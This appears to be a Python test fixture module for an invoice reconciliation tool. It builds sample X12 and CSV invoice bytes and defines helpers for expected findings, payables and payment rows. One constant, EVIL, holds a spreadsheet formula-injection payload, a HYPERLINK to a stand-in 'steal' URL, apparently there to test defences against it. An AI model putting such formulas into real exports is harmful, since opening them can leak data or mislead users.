"""Rows of the small night: the bytes they came from, and how a test writes one in few words."""

import hashlib
from datetime import date
from decimal import Decimal
from typing import Any

import polars as pl

from recon.canonical import tables as canonical
from recon.canonical.describe import ORIGIN, polars_schema

DAY = date(2026, 3, 2)
EVIL = '=HYPERLINK("http://example.test/steal","Acme")'

ISA = (
    b"ISA*00*          *00*          *ZZ*ACME           *ZZ*NETWORK        "
    b"*260302*0930*U*00401*000000001*0*P*>~"
)
X12_BYTES = ISA + (
    b"GS*IN*ACME*NETWORK*20260302*0930*1*X*004010~ST*810*0001~BIG*20260228*INV-1001**PO-77~"
    b"IT1*1*10*EA*52.00**VC*GL-100~TDS*52000~SE*5*0001~GE*1*1~IEA*1*000000001~"
)
CSV_BYTES = (
    "po_number;line;item;qty;uom;price\nPO-77;1;I-001;10;EA;50.00\n"
    "000012;1;I-001;5;BX;20.00 Stéph\n"
).encode("cp1252")
X12_ID = hashlib.sha256(X12_BYTES).hexdigest()
CSV_ID = hashlib.sha256(CSV_BYTES).hexdigest()
RAW = {X12_ID: X12_BYTES, CSV_ID: CSV_BYTES}


def frame(table: type[canonical.Table], *rows: dict[str, Any]) -> pl.DataFrame:
    """Rows of ``table`` from text; what is not named is null, origins point at the CSV."""
    schema = polars_schema(table)
    origin = {
        "source_system": "test",
        "source_file_id": CSV_ID,
        "source_record": 1,
        "byte_offset": CSV_BYTES.index(b"PO-77"),
    }
    columns = {
        name: pl.Series(
            name,
            [
                Decimal(value) if isinstance(dtype, pl.Decimal) and value is not None else value
                for value in (
                    row.get(name, origin.get(name) if name in ORIGIN else None) for row in rows
                )
            ],
            dtype=dtype,
        )
        for name, dtype in schema.items()
    }
    return pl.DataFrame(columns)


def finding(code: str, impact: str, **more: Any) -> dict[str, Any]:
    return {
        "exception_key": hashlib.md5(
            f"{code}{sorted(more.items())}".encode(), usedforsecurity=False
        ).hexdigest()[:16],
        "code": code,
        "hold": True,
        "queue": "BUY",
        "impact": impact,
        "latent": "0.00",
        "currency": "USD",
        "basis_date": date(2026, 2, 28),
        "first_seen": date(2026, 3, 1),
        "times_seen": 2,
        "age_days": 2,
        "bucket": "0-7",
        "state": "OPEN",
        **more,
    }


def line_result(
    invoice_id: str, amount: str, supported: str, held: str, **more: Any
) -> dict[str, Any]:
    zeros = dict.fromkeys(("tolerated", "routed", "leak", "qty_a", "qty_b", "qty_c", "qty_d"), "0")
    return {
        **zeros,
        "invoice_id": invoice_id,
        "line_no": 1,
        "line_type": "ITEM",
        "currency": "USD",
        "status": "EXCEPTION",
        "amount": amount,
        "supported": supported,
        "held": held,
        **more,
    }


def invoice_line(
    invoice_id: str, qty: str, uom: str, price: str, amount: str, **more: Any
) -> dict[str, Any]:
    return {
        "invoice_id": invoice_id,
        "line_no": 1,
        "qty": qty,
        "uom": uom,
        "price": price,
        "amount": amount,
        **more,
    }


def payable(invoice_id: str, amount: str, held: str, supported: str, **more: Any) -> dict[str, Any]:
    """Of a document held whole while anything of it is held: the policy the sample has."""
    whole = supported if held == "0.00" else "0.00"
    return {
        "invoice_id": invoice_id,
        "currency": "USD",
        "is_paid": False,
        "amount": amount,
        "held": held,
        "overbilled": held if not held.startswith("-") else "0.00",
        "routed": "0.00",
        "pay_if_hold_whole": whole,
        "pay_supported": supported,
        "payable": whole,
        **more,
    }


def payment(
    invoice_id: str | None,
    number: str,
    status: str,
    paid: str,
    invoiced: str | None,
    difference: str | None,
    beyond: str | None,
    **more: Any,
) -> dict[str, Any]:
    return {
        "document_key": invoice_id or number,
        "currency": "USD",
        "invoice_id": invoice_id,
        "invoice_number": number,
        "payments": 1,
        "last_payment_date": DAY,
        "invoiced": invoiced,
        "paid": paid,
        "discount_taken": "0.00",
        "adjusted": "0.00",
        "difference": difference,
        "beyond_payable": beyond,
        "status": status,
        **more,
    }
